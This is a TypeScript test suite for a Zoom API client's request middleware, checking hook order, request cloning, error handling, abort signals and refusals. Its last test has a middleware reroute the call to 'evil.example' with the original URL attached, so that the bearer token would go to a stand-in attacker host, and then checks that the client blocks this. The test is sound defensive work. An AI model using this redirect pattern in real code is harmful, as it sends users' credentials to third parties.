/** Middleware as openapi-ts.dev/openapi-fetch/middleware-auth describes it, side by side with a bare client. */
import { createZoomClient, ZoomConnectionError, ZoomInputError } from "../../src/index.js";
import { resetAfterWrite } from "../transport/support.js";
import { clients, same, server, type AnyClient } from "./side-by-side.js";

type Call = {
  request: Request;
  response: Response;
  error: unknown;
  schemaPath: string;
  params: object;
  options: object;
};

test("order, arguments, and the one of a call after those of use", async () => {
  const { result } = await same(async (client) => {
    const log: unknown[] = [];
    const named = (name: string) => ({
      onRequest({ request, schemaPath, params, options }: Call) {
        const isReal = request instanceof Request;
        log.push([name, "request", schemaPath, params, Object.keys(options).sort(), Object.isFrozen(options), isReal]);
      },
      onResponse: ({ request, response }: Call) => void log.push([name, "response", request.method, response.status]),
    });
    client.use(named("a") as never, named("b") as never);
    await client.GET("/users/{userId}", { params: { path: { userId: "u" } }, middleware: [named("c")] });
    return log;
  });
  expect((result as unknown[][]).map(([name, what]) => `${name} ${what}`)).toEqual([
    "a request",
    "b request",
    "c request",
    "c response",
    "b response",
    "a response",
  ]);
});

test("a request is cloned, read, changed and made anew", async () => {
  const { seen, result } = await same(async (client) => {
    let read = "";
    client.use({
      async onRequest({ request }: Call) {
        read = await request.clone().text();
        request.headers.set("x-first", "1");
        const copy = new Request(request, { headers: { ...Object.fromEntries(request.headers), "x-second": "2" } });
        return copy;
      },
    } as never);
    await client.POST("/users", { body: { a: 1 } });
    return read;
  });
  expect(result).toBe('{"a":1}');
  expect(seen[0]).toMatchObject({ body: '{"a":1}', headers: { "x-first": "1", "x-second": "2" } });
});

test("a request that a middleware made anew keeps the options of its call", async () => {
  const { ours } = clients();
  ours.use({ onRequest: ({ request }: Call) => new Request(request) } as never);
  server.otherwise = resetAfterWrite;
  const zoom = createZoomClient({ auth: "t", baseUrl: server.origin, deps: { random: () => 0 } });
  zoom.http.use({ onRequest: ({ request }) => new Request(request) });
  await zoom.http.GET("/users", { retry: { attempts: 3, base: 0 } }).catch(() => {});
  expect(server.seen).toHaveLength(3);
});

test("answers without a request, and other responses", async () => {
  const { seen, result } = await same(async (client) => {
    client.use({
      onRequest: ({ schemaPath }: Call) => (schemaPath === "/groups" ? new Response('{"cached":true}') : undefined),
      onResponse: async ({ response, schemaPath }: Call) =>
        schemaPath === "/users"
          ? new Response(await response.text(), { status: 201, headers: { "x-changed": "1" } })
          : undefined,
    } as never);
    const [groups, users] = [await client.GET("/groups"), await client.GET("/users")];
    return [groups.data, users.data, users.response.status];
  });
  expect(seen).toHaveLength(1);
  expect(result).toEqual([{ cached: true }, { id: "u1" }, 201]);
});

test("what a middleware throws is what the call throws", async () => {
  const throwing = (hook: string) => (client: AnyClient) => {
    client.use({
      [hook]: () => {
        throw new RangeError(`in ${hook}`);
      },
    } as never);
    return client.GET("/users");
  };
  for (const hook of ["onRequest", "onResponse"]) {
    expect((await same(throwing(hook))).result).toEqual({ thrown: `RangeError: in ${hook}` });
  }
});

test("an ejected middleware is not asked, and what is none is refused", async () => {
  const { seen } = await same(async (client) => {
    const header = { onRequest: ({ request }: Call) => request.headers.set("x-mine", "1") } as never;
    client.use(header);
    client.eject(header);
    expect(() => client.use({} as never)).toThrow("Middleware must be an object");
    return (await client.GET("/users")).data;
  });
  expect(seen[0]?.headers).not.toHaveProperty("x-mine");
});

test("onError hears why no answer came, in reverse order, and may answer", async () => {
  server.otherwise = resetAfterWrite;
  const { ours } = clients();
  const log: unknown[] = [];
  ours.use(
    { onError: ({ error }: Call) => (log.push(["first", (error as Error).message]), new Response("{}")) } as never,
    {
      onError: ({ error }: Call) => (log.push(["second", error instanceof ZoomConnectionError]), new Error("wrapped")),
    } as never,
  );
  expect(await ours.GET("/users")).toMatchObject({ data: {} });
  expect(log).toEqual([
    ["second", true],
    ["first", "wrapped"],
  ]);
});

test("a body that a middleware has read is refused, as the request holds it no more", async () => {
  const { ours } = clients();
  ours.use({ onRequest: async ({ request }: Call) => void (await request.text()) } as never);
  await expect(ours.POST("/users", { body: {} })).rejects.toThrow("A middleware must read a clone of the request");
  expect(server.seen).toEqual([]);
});

test("a token that a middleware sets is refused instead of lost", async () => {
  const { ours } = clients();
  ours.use({ onRequest: ({ request }: Call) => request.headers.set("authorization", "Bearer mine") } as never);
  const call = ours.GET("/users");
  await expect(call).rejects.toThrow(ZoomInputError);
  await expect(call).rejects.toThrow("The client sets `authorization` itself");
  expect(server.seen).toEqual([]);
});

test("the signal of a call and the one of a middleware's request end it", async () => {
  const { ours } = clients();
  await expect(ours.GET("/users", { signal: AbortSignal.abort() })).rejects.toMatchObject({ name: "AbortError" });
  ours.use({ onRequest: ({ request }: Call) => new Request(request, { signal: AbortSignal.abort() }) } as never);
  await expect(ours.GET("/users")).rejects.toMatchObject({ name: "AbortError" });
  expect(server.seen).toEqual([]);
});

test("a middleware cannot send the token to a host that may not see it", async () => {
  const sent: string[] = [];
  const fetch = async (url: string) => (sent.push(url), Response.json({}));
  const { http } = createZoomClient({ auth: "token", fetch });
  http.use({ onRequest: ({ request }) => new Request(`https://evil.example/?from=${request.url}`, request) });
  await expect(http.GET("/users")).rejects.toThrow("evil.example may not see the token");
  expect(sent).toEqual([]);
});
